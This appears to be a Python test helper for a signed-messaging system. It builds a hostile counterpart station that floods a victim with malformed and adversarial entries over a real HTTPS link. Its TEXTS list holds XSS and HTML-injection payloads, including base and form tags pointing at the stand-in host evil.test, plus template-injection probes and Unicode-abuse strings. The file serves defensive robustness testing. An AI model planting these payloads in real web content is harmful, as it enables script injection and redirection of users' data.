"""A counterpart in bad faith on a real line: real keys, the real wire, and a hostile text wherever one can be put.

It was introduced as any station is, then its program was put aside; what it signs and sends from then on is the test's.
"""

import asyncio
import os
import re
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from itertools import islice
from typing import Any, Final, Self

from msgspec import inspect

from parley.bearers.https import HttpsBearer, HttpsListener
from parley.forms.catalogue import builtin
from parley.forms.definition import Definition, Field
from parley.keystores.file import FileKeystore
from parley.line import facts
from parley.line.bounds import TEXT_CHARACTERS_MAX
from parley.record import canonical
from parley.record import entry as entries
from parley.record.entry import After, stamp
from parley.record.errors import Malformed
from parley.record.grammar import Entries, Section, Signed
from parley.sim.world.hand import Hand
from parley.station import begin
from parley.station.bearing import CertificateHash, Rejected, Rejection
from parley.station.settings import RECORD
from parley.stores.sqlite import SqliteStore
from parley.wire.seal import OUTER_BYTES_MAX
from parley.wiring import reading
from tests.cli.running import PASSPHRASE, At
from tests.forms import examples
from tests.forms.hostile import HOSTILE

WAIT_MS: Final = 60_000  # for a parcel of thousands of entries, on two cores that do other things besides
PARCEL_BYTES: Final = 2 << 20
OWNED: Final = "window.owned=1"  # what a text does that is obeyed

TEXTS: Final = [
    *(
        text.replace("alert(1)", OWNED).replace("onload='x'", f"onload='{OWNED}'")
        for text in HOSTILE.values()
    ),
    f"<svg/onload={OWNED}><style>*{{display:none}}</style><base href=//evil.test><meta http-equiv=refresh content=0>",
    f"{{{{7*7}}}} {{% raw %}} ${{7}} javascript:{OWNED}",
    "<a href=javascript:window.owned=1 target=_top>minister</a><form action=//evil.test><input name=f.text>",
    "\u0301" * 16_000,
    "a\u0301" * 8_000,
    "\u202e" * 400,
    "\U00012031" * 4_000,  # the widest letter that Unicode has
    "\ufdfd" * 2_000,
    "m\u0456nister \u0430ster",  # two letters of another script
]
LINE_BREAKS: Final = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]")
CONTROLS: Final = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
ONE_LINE: Final = inspect.StrType(
    min_length=1, max_length=200, pattern=r"^[^\x00-\x1f\x7f-\x9f\u2028\u2029]*\Z"
)
TYPES: Final = [found for found in builtin().all() if found.written]
MESSAGE: Final = "message.sent/1"
OF_THE_STATION: Final = frozenset(
    ("epoch/1", "card/1", "seal.rotated/1")
)  # read by the record, not by the line
NOT_WORDS: Final = OF_THE_STATION | {MESSAGE, "agreement.signed/1"}  # made otherwise
HALVES: Final = re.compile(r"[\ud800-\udfff]")


def endless(first: int = 0) -> Iterator[str]:
    """All texts again and again, from that one on."""
    while True:
        yield from (TEXTS[(first + number) % len(TEXTS)] for number in range(len(TEXTS)))


def fitted(text: str, of: inspect.StrType) -> str:
    """As much of a text as the bounds of the record let through."""
    text = HALVES.sub("", text)
    text = (CONTROLS if of.max_length and of.max_length >= 2_000 else LINE_BREAKS).sub("", text)
    text = text[: of.max_length or 2_000]
    text = text.strip() if of.min_length else text
    if of.pattern is None or re.match(of.pattern, text):
        return text if len(text) >= (of.min_length or 0) else "\u202ex"
    return "\u202ex"


@dataclass
class Filler:
    """Values for an entry, each text in them the next of `texts`; `fits`: cut to what the record takes."""

    texts: Iterator[str]
    refs: Mapping[str, str]
    fits: bool = True

    def value(self, of: inspect.Type, name: str) -> Any:  # noqa: PLR0911  # one for each sort of type
        match of:
            case inspect.StrType():
                return self._text(of, name)
            case inspect.LiteralType(values):
                return values[0] if self.fits else next(self.texts)
            case inspect.EnumType(cls):
                return next(iter(cls)).value if self.fits else next(self.texts)
            case inspect.BoolType():
                return True if self.fits else next(self.texts)
            case inspect.IntType():
                return of.ge or 1 if self.fits else 2**53 - 1
            case inspect.UnionType(types):
                return self.value(next(t for t in types if not isinstance(t, inspect.NoneType)), name)
            case inspect.VarTupleType(item_type):
                count = min(of.max_length or 3, 3) if self.fits else 300
                return [self.value(item_type, name) for _ in range(count)]
            case inspect.StructType(fields=fields):
                return {each.encode_name: self.value(each.type, each.encode_name) for each in fields}
            case inspect.DictType():
                return {"text": self._long()}
        raise NotImplementedError(of)

    def _long(self) -> str:
        return fitted(next(self.texts), inspect.StrType(max_length=TEXT_CHARACTERS_MAX))

    def _text(self, of: inspect.StrType, name: str) -> str:
        pattern = of.pattern or ""
        if not self.fits:
            return next(self.texts)
        if "{64}" in pattern:
            return self.refs.get(name, "ab" * 32)
        if "T[0-9]" in pattern:
            return stamp(_now() + (7_200_000 if name in {"until", "valid_to", "to"} else 3_600_000))
        if "{2,3}" in pattern:
            return "en"
        for fixed in ("FREE-TEXT/1", "item", "09:00"):
            if of.pattern and re.match(of.pattern, fixed) and not re.match(of.pattern, "a b<"):
                return fixed
        return fitted(next(self.texts), of)


def _now() -> int:
    return time.time_ns() // 1_000_000


def fields_of(kind: str) -> Sequence[inspect.Field]:
    told = inspect.type_info(facts.KINDS[kind])
    assert isinstance(told, inspect.StructType)
    return told.fields


def said(kind: str, texts: Iterator[str], refs: Mapping[str, str], *, fits: bool = True) -> dict[str, Any]:
    """A body of that kind, with a hostile text in every field that has one."""
    filler = Filler(texts, refs, fits)
    return {each.encode_name: filler.value(each.type, each.encode_name) for each in fields_of(kind)}


# --- messages -----------------------------------------------------------------------------------------------


class Way:
    """How the fields of a message's form are filled."""

    TEXTS: Final = "as its form has them, every text hostile"
    LEAVES: Final = "every number, choice, place and time a hostile text as well"
    TABLES: Final = "every field a table of hundreds of rows"


WAYS: Final = (Way.TEXTS, Way.LEAVES, Way.TABLES)


def written(
    definition: Definition, way: str, texts: Iterator[str], refs: Mapping[str, str]
) -> dict[str, Any]:
    """A message of that type; its header hostile throughout, its fields in that way; as long as an entry may be."""
    body = said("message.sent/1", texts, refs) | {"type": definition.type, "number": 1}
    body["translations"] = [{"language": "ar", "subject": body["subject"], "fields": {"text": "\u202ex"}}]
    body["valid_from"] = stamp(_now())
    for room in (TEXT_CHARACTERS_MAX, 2_000, 200, 40, 5):
        body["fields"] = _fields(definition, way, texts, room)
        if len(canonical.encode(body)) < canonical.ENTRY_BYTES_MAX - 400:
            return body
    raise AssertionError(f"{definition.type} does not fit")


def _fields(definition: Definition, way: str, texts: Iterator[str], room: int) -> dict[str, Any]:
    if way == Way.TABLES:
        rows = [{"x": _cut(text, room), "y": [_cut(text, room)]} for text in islice(texts, 300)]
        return {each.name: rows for each in definition.fields[:1]} | {"not_of_this_form": rows[:50]}
    whole = examples.whole(definition)
    return {
        each.name: _evil(each, whole[each.name], way, texts, room)
        for each in definition.fields
        if each.name in whole
    }


def _evil(of: Field, value: Any, way: str, texts: Iterator[str], room: int) -> Any:
    if isinstance(value, list) and of.kind == "table":
        columns = {column.name: column for column in of.columns}
        return [{k: _evil(columns[k], v, way, texts, room) for k, v in row.items()} for row in value]
    if isinstance(value, list) and of.kind == "list":
        return [_evil(of.element, part, way, texts, room) for part in value]
    if way == Way.LEAVES or of.kind in {"line", "text", "post"}:
        return _cut(next(texts), room)
    return value


def _cut(text: str, room: int) -> str:
    return CONTROLS.sub("", HALVES.sub("", text))[:room]


# --- who sends ----------------------------------------------------------------------------------------------


@dataclass
class Sent:
    """What became of what it sent: taken as a word of the line, kept as unknown, or refused by the wire."""

    taken: Counter[str] = field(default_factory=Counter)
    unknown: Counter[str] = field(default_factory=Counter)
    refused: Counter[str] = field(default_factory=Counter)

    def __str__(self) -> str:
        return ", ".join(f"{getattr(self, name).total()} {name}" for name in ("taken", "unknown", "refused"))


class Foe(Hand):
    """It has the keys of the station in `at`, which does not run, and writes to `victim`, which does."""

    def __init__(self, at: At, victim: At) -> None:
        store = SqliteStore(at.folder / RECORD)
        (row,) = store.lines()
        book = begin.book(store, row)
        keys = FileKeystore.open_file(at.folder, PASSPHRASE)
        super().__init__(keys, book, self._held, os.urandom, _now())
        self.raws = [raw for log in book.mine for raw in store.raws(log.id, 0, log.size)]
        store.close()
        self.victim = victim
        self.sent = Sent()
        self.waiting: list[bytes] = []
        self.agreement = "ab" * 32

    def _held(self) -> After:
        """All that the victim has signed, by its own record."""
        found = reading(self.victim.folder)
        log = [log for log in found.logs(self.book.id) if log.mine][-1]
        held = After(log.epoch, log.size)
        found.close()
        return held

    # --- what it says ---------------------------------------------------------------------------------------

    def say(self, kind: str, body: Mapping[str, Any]) -> str:
        """An entry for the next parcel, if the record can hold it at all; its reference, or why not."""
        self.now = _now()
        try:
            raw = self.entry(kind, self._after, **body)
            ref = entries.parse(raw).ref
        except (Malformed, UnicodeEncodeError, ValueError):
            self.sent.refused[kind] += 1  # its own record's form forbids it: nothing could carry it
            return ""
        known = facts.read(kind, body)
        (self.sent.unknown if isinstance(known, facts.Unknown) else self.sent.taken)[kind] += 1
        self.waiting.append(raw)
        return ref

    def begin(self) -> None:
        self._after = self._held()

    def send(self) -> None:
        """All that waits, in as many parcels as it takes; every one is taken."""
        raws, self.waiting = self.waiting, []
        while raws:
            part: list[bytes] = []
            size = 0
            while raws and (not part or size + len(raws[0]) < PARCEL_BYTES):
                size += len(raws[0])
                part.append(raws.pop(0))
            assert self.post(*self.added(*part)) == ""

    def over(self, raw: bytes) -> str:
        """Any bytes at all as an entry, under a head that is right; why they were refused."""
        head = self.head([*self.raws, raw])
        return self.post(Entries(self.name, len(self.raws), [raw]), Signed(head))

    def post(self, *sections: Section) -> str:
        return self.carry(self.parcel(*sections))

    def carry(self, outer: bytes) -> str:
        """Brought to the victim over the real bearer: empty, or in which words it was refused."""

        async def post() -> str:
            them = self.book.them.card
            bearer = HttpsBearer(self.keys.tls(), them.tls, them.addresses, OUTER_BYTES_MAX)
            try:
                await bearer.post(outer, WAIT_MS)
            except Rejected as why:
                return why.words
            finally:
                await bearer.close()
            return ""

        with ThreadPoolExecutor(1) as aside:  # the browser's own loop runs in this thread
            return aside.submit(asyncio.run, post()).result()


class Answering:
    """Whoever calls on this address as the victim is refused, in these words."""

    def __init__(self, foe: Foe, host: str, port: int, words: str) -> None:
        self._foe, self._where, self._words = foe, (host, port), words
        self._stop: Callable[[], object] = lambda: None
        self._ready = threading.Event()
        self._thread = threading.Thread(target=lambda: asyncio.run(self._serve()), daemon=True)

    async def _serve(self) -> None:
        async def receive(_: CertificateHash, __: bytes) -> bytes | Rejection:
            return Rejection(400, self._words)

        stop, loop = asyncio.Event(), asyncio.get_running_loop()
        self._stop = lambda: loop.call_soon_threadsafe(stop.set)
        listener = HttpsListener(self._foe.keys.tls(), *self._where, receive, OUTER_BYTES_MAX)
        listener.admit([self._foe.book.them.card.tls])
        await listener.start()
        self._ready.set()
        await stop.wait()
        await listener.stop()

    def __enter__(self) -> Self:
        self._thread.start()
        assert self._ready.wait(10)
        return self

    def __exit__(self, *_: object) -> None:
        self._stop()
        self._thread.join(10)
